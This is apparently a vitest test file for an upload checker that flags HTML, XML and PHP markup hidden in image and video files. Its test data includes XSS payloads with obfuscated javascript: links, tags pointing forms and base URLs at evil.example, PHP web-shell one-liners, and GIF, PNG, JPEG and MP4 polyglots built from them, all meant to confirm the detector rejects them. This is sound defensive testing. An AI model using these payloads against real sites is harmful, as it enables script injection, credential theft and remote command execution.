import { GIF, JPEG, MP4, PNG } from '@waybill/test-support/samples'
import { describe, expect, it } from 'vitest'
import { checkContent } from 'waybill/arrival'

const latin = (text: string) => Buffer.from(text, 'latin1')

/** https://mimesniff.spec.whatwg.org/#identifying-a-resource-with-an-unknown-mime-type, in its order. */
const SNIFFED_TAGS =
  '<!DOCTYPE HTML,<HTML,<HEAD,<SCRIPT,<IFRAME,<H1,<DIV,<FONT,<TABLE,<A,<STYLE,<TITLE,<B,<BODY,<BR,<P,<!--'.split(
    ',',
  )
/** The standard's two, and what only Chromium takes: it sniffs without one. */
const AFTER_A_TAG = [' ', '>', '\x80', 'x', '\n', '/', '\0']
/** Types that are known by no mark. */
const MEDIA = 'image/x-own'
const DOCUMENT = 'application/x-own'

async function isActive(head: Uint8Array, type: string): Promise<boolean> {
  return (await checkContent(head, type, head.length))?.reason === 'active-content'
}

const WHITESPACE = ['', '\t', '\n', '\f', '\r', ' ', '\r\n \t']

describe('checkContent', () => {
  it.each(SNIFFED_TAGS)(
    'detects %s, which browsers (such as Chromium) sniff as HTML',
    async (tag) => {
      for (const end of AFTER_A_TAG) {
        for (const space of WHITESPACE) {
          for (const written of [tag, tag.toLowerCase()]) {
            const head = latin(`${space}${written}${end}\0\x01 whatever`)
            expect(await isActive(head, MEDIA)).toBe(true)
            expect(await isActive(head, DOCUMENT)).toBe(true)
          }
        }
      }
    },
  )

  it('detects <?xml, and markup after a byte order mark', async () => {
    expect(await isActive(latin('\n<?xml\0'), DOCUMENT)).toBe(true)
    expect(await isActive(latin('\xef\xbb\xbf <HTML>\0'), DOCUMENT)).toBe(true)
  })

  it('ignores text that only resembles one of these tags', async () => {
    for (const text of ['<?xpacket', '< html>', '<1>', '<video>', '<!doctype x>', '<!-']) {
      expect([text, await isActive(latin(`${text}\0`), DOCUMENT)]).toEqual([text, false])
    }
  })

  it('rejects media that begin with any tag', async () => {
    for (const text of ['<x-y onclick=1>', '<video src=x>', '</p><p>hi', '<?php\n1', '<!x> <b>']) {
      expect([text, await isActive(latin(text), MEDIA)]).toEqual([text, true])
    }
  })
})

/** Each is a file of its type to a reader that knows no better. */
const IN_A_GIF: readonly (readonly [string, string])[] = [
  ['an element that runs', '<img src=x onerror=alert(1)>'],
  ['a picture from elsewhere', '\0<IMG\nSRC=//evil.example/x>\0'],
  ['a body that runs', '<body onload=alert(1)>'],
  ['any element that runs', '\0<b/onmouseover\n=\0alert(1)>'],
  ['a quoted attribute before it', '<x y=">"onfocus=alert(1)>'],
  ['what sends its reader elsewhere', '<meta http-equiv=refresh content="0;url=//evil.example">'],
  ['a link that runs', '<a href=javascript:alert(1)>x'],
  ['the same in quotes', '<a title="x" href = " javascript:a()">x'],
  ['the same in codes', '<a href="&#106;avascript:alert(1)">x'],
  ['the same with a tab', '<a href="j\tavascript:alert(1)">x'],
  ['the same with one letter in codes', '<a href="j&#97;vascript:a()">x'],
  ['the same with a named tab', '<a href="j&Tab;avascript:a()">x'],
  ['the same behind control characters', '<a href="\x01javascript:a()">x'],
  ['a button that runs', '<b formaction=javascript:a()>x'],
  ['a form', '<form action=//evil.example><input name=pin>'],
  ['another base', '<base href=//evil.example>'],
  ['a style sheet', '<LINK\nrel=stylesheet href=//evil.example>'],
  ['an imported style sheet', '<style>@import "//e.example"'],
  ['a short PHP tag', '<?=`$_GET[0]`?>'],
  ['a bare PHP tag', '<? system($_GET[0]);'],
]
const POLYGLOTS: readonly (readonly [string, string, Uint8Array])[] = [
  ...IN_A_GIF.map(([what, text]) => [what, 'image/gif', latin(`GIF89a${text}`)] as const),
  ['a PNG with a form', 'image/png', Buffer.concat([PNG, latin('<form>')])],
  [
    'a JPEG with another base',
    'image/jpeg',
    Buffer.concat([JPEG, latin('<base/href=//e.example>')]),
  ],
  [
    'an mp4 with a link that runs',
    'video/mp4',
    Buffer.concat([MP4, latin('<a href=JavaScript:a()>')]),
  ],
  ['an mp4 that begins as a comment', 'video/mp4', latin('<!--ftypmp42--><img src=x onerror=a()>')],
  [
    'an mp4 that begins as a tag to Chromium',
    'video/mp4',
    latin('<p\x80\x80ftypmp42><meta http-equiv=refresh content="0;url=//evil.example">'),
  ],
  ['a PNG with an object', 'image/png', Buffer.concat([PNG, latin('<object data=x>')])],
  [
    'a JPEG with a handler far behind a tag',
    'image/jpeg',
    Buffer.concat([JPEG, latin('<p>'), Buffer.alloc(50_000), latin(" 'onerror =")]),
  ],
]

/** What cameras and programs leave in pictures. */
const METADATA = latin(
  '<?xpacket begin="\xef\xbb\xbf" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">' +
    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmp:CreatorTool="Tool" ' +
    'dc:format="image/jpeg" once="1" only = "2"/></rdf:RDF></x:xmpmeta><?xpacket end="w"?>' +
    '<?xml version="1.0"?><NonRealTimeMeta><Device modelName="A"/></NonRealTimeMeta> a < b, online',
)

describe('checkContent for polyglot files', () => {
  it.each(POLYGLOTS)('rejects %s', async (_what, type, bytes) => {
    expect(await checkContent(bytes, type, bytes.length)).toMatchObject({
      reason: 'active-content',
    })
  })

  it.each([
    ['image/png', PNG],
    ['image/jpeg', JPEG],
    ['image/gif', GIF],
    ['video/mp4', MP4],
  ])('allows camera metadata in %s', async (type, bytes) => {
    const file = Buffer.concat([bytes, METADATA])
    expect(await checkContent(file, type, file.length)).toBeUndefined()
  })

  it('does not mistake random bytes for markup', async () => {
    let state = 1
    const noise = new Uint8Array(64 * 1024)
    for (let file = 0; file < 400; file += 1) {
      for (let index = 0; index < noise.length; index += 1) {
        state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
        noise[index] = state >>> 24
      }
      expect(await isActive(noise, MEDIA)).toBe(false)
    }
  })
})
